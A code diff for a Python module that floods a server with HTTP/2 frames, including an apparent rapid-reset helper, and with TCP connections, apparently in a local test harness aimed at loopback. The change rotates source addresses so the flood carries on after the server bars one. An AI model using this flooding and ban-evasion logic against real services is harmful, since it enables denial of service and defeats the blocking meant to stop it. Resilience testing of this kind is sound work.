@@ -1,5 +1,6 @@
 """Floods: processes that only run where a processor would idle, so that what they cost is the server's work on them."""
 
+import errno
 import itertools
 import multiprocessing
 import os
@@ -14,6 +15,10 @@ from hostilelib.targets import Target
 PROCESSES = 2
 CONNECTIONS = 8
 LONG = 1_000_000_000
+# A flood of frames comes from these, none of which the service trusts. On loopback a connection is made
+# at once or not at all: the server bars its address, so the next one is tried.
+SOURCES = [f"127.0.0.{last}" for last in range(2, 21)]
+CONNECT_SECONDS = 0.1
 
 
 def rapid_reset(target: Target) -> tuple[bytes, bytes]:
@@ -57,7 +62,7 @@ class Flood:
             work = lambda number: _connections(address, target.cap, number, self)  # noqa: E731
         else:
             opening, again = H2[kind](target)
-            work = lambda number: _frames(address, wire.HELLO + opening, again, self)  # noqa: E731
+            work = lambda number: _frames(address, wire.HELLO + opening, again, number, self)  # noqa: E731
         self.processes = [multiprocessing.Process(target=_idly, args=(work, n), daemon=True) for n in range(PROCESSES)]
         for process in self.processes:
             process.start()
@@ -97,52 +102,78 @@ def _connections(address: tuple[str, int], cap: int, number: int, flood: Flood) 
             held.pop(0).close()
 
 
-def _frames(address: tuple[str, int], opening: bytes, again: bytes, flood: Flood) -> None:
+class Peer:
+    """A connection that is being made, or floods."""
+
+    def __init__(self, address: tuple[str, int], source: str, stream: Iterator[bytes]) -> None:
+        self.stream, self.rest = stream, memoryview(next(stream))
+        self.made, self.began = False, time.monotonic()
+        self.socket = socket.socket()
+        self.socket.setblocking(False)
+        self.socket.bind((source, 0))
+        if (wrong := self.socket.connect_ex(address)) not in (0, errno.EINPROGRESS):
+            self.socket.close()
+            raise OSError(wrong, os.strerror(wrong))
+
+    def is_barred(self) -> bool:
+        return not self.made and time.monotonic() > self.began + CONNECT_SECONDS
+
+    def act(self, events: int, flood: Flood) -> None:
+        """Does what can be done now; raises an `OSError` at the end."""
+        if not self.made:
+            if wrong := self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                raise OSError(wrong, os.strerror(wrong))
+            self.made = True
+            flood.count(0, 1)
+        if events & selectors.EVENT_READ and not self.socket.recv(1 << 16):
+            raise ConnectionError("closed")
+        if events & selectors.EVENT_WRITE:
+            self.send(flood)
+
+    def send(self, flood: Flood) -> None:
+        count = self.socket.send(self.rest[: 1 << 16])
+        flood.count(count, 0)
+        self.rest = self.rest[count:]
+        if not self.rest:
+            following = next(self.stream, None)
+            if following is None:
+                raise ConnectionError("all was sent")
+            self.rest = memoryview(following)
+
+
+def _frames(address: tuple[str, int], opening: bytes, again: bytes, number: int, flood: Flood) -> None:
     """Keeps connections that send as fast as they are read, reads what comes, and replaces those that end."""
-    chooser = selectors.DefaultSelector()
+    chooser, peers = selectors.DefaultSelector(), set()
+    sources = itertools.islice(itertools.cycle(SOURCES), number * len(SOURCES) // PROCESSES, None)
+
+    def end(peer: Peer) -> None:
+        chooser.unregister(peer.socket)
+        peer.socket.close()
+        peers.discard(peer)
+
     while True:
-        while len(chooser.get_map()) < CONNECTIONS:
-            _open(chooser, address, _stream(opening, again), flood)
-        for key, events in chooser.select(0.1):
+        for peer in [peer for peer in peers if peer.is_barred()]:
+            end(peer)
+        while len(peers) < CONNECTIONS:
             try:
-                if events & selectors.EVENT_READ and not key.fileobj.recv(1 << 16):
-                    raise ConnectionError("closed")
-                if events & selectors.EVENT_WRITE:
-                    _send(key, flood)
+                peer = Peer(address, next(sources), _stream(opening, again))
+            except OSError:
+                time.sleep(0.01)
+                break
+            peers.add(peer)
+            chooser.register(peer.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, peer)
+        for key, events in chooser.select(CONNECT_SECONDS):
+            try:
+                key.data.act(events, flood)
             except BlockingIOError:
                 continue
             except OSError:
-                chooser.unregister(key.fileobj)
-                key.fileobj.close()
+                end(key.data)
 
 
 def _stream(opening: bytes, again: bytes) -> Iterator[bytes]:
     yield opening
     yield from itertools.repeat(again) if again else ()
-
-
-def _open(chooser: selectors.BaseSelector, address: tuple[str, int], stream: Iterator[bytes], flood: Flood) -> None:
-    try:
-        peer = socket.create_connection(address, 1, (f"127.0.0.{2 + flood.opened.value % 2}", 0))
-    except OSError:
-        time.sleep(0.01)
-        return
-    peer.setblocking(False)
-    flood.count(0, 1)
-    chooser.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE, [memoryview(next(stream)), stream])
-
-
-def _send(key: selectors.SelectorKey, flood: Flood) -> None:
-    rest, stream = key.data
-    count = key.fileobj.send(rest[: 1 << 16])
-    flood.count(count, 0)
-    rest = rest[count:]
-    if not rest:
-        following = next(stream, None)
-        if following is None:
-            raise ConnectionError("all was sent")
-        rest = memoryview(following)
-    key.data[0] = rest
 
 
 def sink() -> tuple[socket.socket, multiprocessing.Process]:
